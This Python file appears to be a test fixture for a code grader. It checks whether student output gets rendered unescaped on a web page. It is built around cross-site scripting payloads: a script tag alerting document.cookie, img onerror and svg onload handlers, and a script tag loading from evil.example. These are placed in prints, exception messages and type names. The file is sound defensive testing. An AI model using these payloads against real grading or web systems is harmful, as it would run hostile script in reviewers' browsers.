"""113a: say things that are programs where a page shows them: printed, raised, as names and as answers.

A naive grader puts all of it into a page as it is, and the page runs it for the person who marks the work.
expect: double failed
expect: arrays error
expect: total error
expect: knock failed
expect: weigh failed
"""

SCRIPT = "</pre></td><script>alert(document.cookie)</script><img src=x onerror=alert(1)>"
Image = type("<svg onload=alert(1)>", (), {})
Oops = type("<script src=//evil.example></script>", (Exception,), {})


def double(x):
    print(SCRIPT)
    if getattr(x, "ndim", 0):
        raise Oops(SCRIPT)
    return Image()


class Total:
    def add(self, x):
        raise KeyError({SCRIPT: [SCRIPT]})


def knock():
    return SCRIPT


def weigh(f, x):
    return {SCRIPT: Image()}


raise SyntaxError(SCRIPT)
